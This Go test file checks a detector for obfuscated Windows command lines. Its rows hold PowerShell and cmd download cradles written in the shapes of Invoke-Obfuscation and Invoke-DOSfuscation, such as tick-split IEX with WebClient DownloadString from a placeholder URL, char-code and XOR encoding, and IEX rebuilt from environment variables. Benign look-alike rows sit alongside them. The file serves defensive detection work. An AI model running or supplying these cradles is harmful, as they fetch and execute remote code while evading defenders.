package analyzers

import (
	"strings"
	"testing"
)

// Each row is one technique of Invoke-Obfuscation or Invoke-DOSfuscation
// applied once to a download cradle or a command, written in the shapes
// those tools emit; the false positives are shapes of ordinary scripts.
func TestObfuscationCalibrated(t *testing.T) {
	psCmd := func(s string) []ev { return []ev{security4688(ps, expl, "powershell.exe -c \""+s+"\"")} }
	runTable(t, []tableCase{
		{"token: ticks inside words", psCmd("I`E`X (N`e`W-oBjeCt N`eT.WeBcLiEnT).dOwNlOaDsTrInG('http://x/a')"), "T1059.001", "medium", ""},
		{"string: reordered format", psCmd(`& ("{1}{0}"-f'EX','I') (("{2}{0}{1}" -f 'ct Net','.WebClient','New-Obje'))`), "T1059.001", "medium", ""},
		{"string: joined fragments", psCmd(`$c = 'Ne'+'w-O'+'bj'+'ect'; & $c`), "T1059.001", "medium", ""},
		{"string: reversed", psCmd(`$r = ')a/x//:ptth(gnirtSdaolnwoD'; $s = $r[-1..-($r.Length)] -join ''`), "T1059.001", "medium", ""},
		{"encoding: char codes", psCmd(`[char]73+[char]69+[char]88+[char]32+[char]40+[char]41`), "T1059.001", "medium", ""},
		{"encoding: binary", psCmd(`-join ('1001001,1000101,1011000' -split ',' | % {[char][convert]::ToInt16($_, 2)})`), "T1059.001", "medium", ""},
		{"encoding: bxor", psCmd(`$k=0x2f; -join ([char[]]($b) | % { [char]([int]$_ -bxor $k) })`), "T1059.001", "medium", ""},
		{"encoding: secure string", psCmd(`[Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR((ConvertTo-SecureString -Key (1..16) $s)))`), "T1059.001", "medium", ""},
		{"iex from comspec", psCmd(`&($env:ComSpec[4,15,25]-Join'') ('whoami')`), "T1059.001", "medium", ""},
		{"iex from pshome", psCmd(`.($PSHome[4]+$PSHome[34]+'X') $payload`), "T1059.001", "medium", ""},
		{"iex through gcm", psCmd(`&(gcm i*x) $payload`), "T1059.001", "medium", ""},
		{"launcher: env var", []ev{security4688(cmd, expl, `cmd /c "set abc=IEX (iwr http://x/a)&& powershell -c $env:abc|iex"`)}, "T1059.003", "!critical", ""},
		{"plain format string is quiet", psCmd(`"{0} has {1} items" -f $name, $count`), "T1059.001", "", ""},
		{"line continuation is quiet", []ev{block("o1", "Get-ChildItem -Path C:\\Logs `\n  -Filter *.log `\n  -Recurse | Remove-Item -WhatIf")}, "T1059.001", "", ""},
		{"escapes in strings are quiet", psCmd("Write-Host \\\"Line one`nLine two`tTabbed\\\""), "T1059.001", "", ""},
		{"dos: carets", []ev{security4688(cmd, expl, `cmd /c p^o^w^e^r^s^h^e^l^l -c whoami`)}, "T1059.003", "medium", ""},
		{"dos: substrings", []ev{security4688(cmd, expl, `cmd /c %COMSPEC:~-7,1%%COMSPEC:~-1,1%%COMSPEC:~-13,1% hi`)}, "T1059.003", "medium", ""},
		{"dos: reversal", []ev{security4688(cmd, expl, `cmd /v:on /c "set r=imaohw&&for /l %i in (5,-1,0) do set o=!o!!r:~%i,1!&&if %i==0 call %o%"`)}, "T1059.003", "high", ""},
		{"long command line", psCmd("Write-Output " + strings.Repeat("a", 1100)), "T1059.001", "low", "Long PowerShell command line (1133 characters)"},
		{"dos: ordinary set is quiet", []ev{security4688(cmd, expl, `cmd /c set PATH=%PATH%;C:\tools`)}, "T1059.003", "", ""},
	})
	text := strings.Repeat("$a=[char]0x41;", 1) + strings.Repeat("$b+=$a;", 40)
	if s, _ := obfuscationScore(text); s > 100 || s < 0 {
		t.Errorf("score %d out of range", s)
	}
}
